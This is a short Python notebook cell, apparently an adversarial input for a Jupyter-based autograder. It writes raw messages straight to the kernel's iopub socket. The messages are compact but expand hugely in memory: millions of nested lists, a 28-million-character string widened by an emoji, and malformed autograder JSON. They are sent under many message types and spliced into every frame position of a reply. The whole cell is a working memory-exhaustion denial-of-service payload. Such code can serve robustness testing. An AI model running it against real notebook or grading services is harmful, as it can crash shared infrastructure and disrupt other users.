# Sends messages that are small as text and large in memory: millions of lists, and one character that makes a long text wide.
#
# table = [17]
# cell_seconds = 10
# %%
import os

kernel = get_ipython().kernel
session, published, parent = kernel.session, kernel.iopub_socket, kernel.get_parent()
MESSAGES = (
    b'{"data": [' + b"[]," * 9_000_000 + b"0]}",
    b'{"data": {"text/plain": [' + b'{"a":[{}]},' * 2_500_000 + b"0]}}",
    '{{"name": "stdout", "text": "{}\U0001f600"}}'.format("x" * 28_000_000).encode(),
    b'{"name": "stdout", "text": "' + b"x" * 28_000_000 + b'\\ud83d\\ude00"}',
    b'{"data": {"application/vnd.autograder+json": {"headers": [], "body": "' + b"[[[[" * 3_000_000 + b'"}}}',
)
for kind in ("display_data", "stream", "execute_result", "error", "status"):
    for content in MESSAGES:
        whole = session.serialize(session.msg(kind, {}, parent=parent))
        published.send_multipart([*whole[:-1], content])
# %%
whole = session.serialize(session.msg("execute_reply", {}, parent=parent))
for place in range(2, len(whole)):
    published.send_multipart([*whole[:place], MESSAGES[0], *whole[place + 1 :]])
print("done")
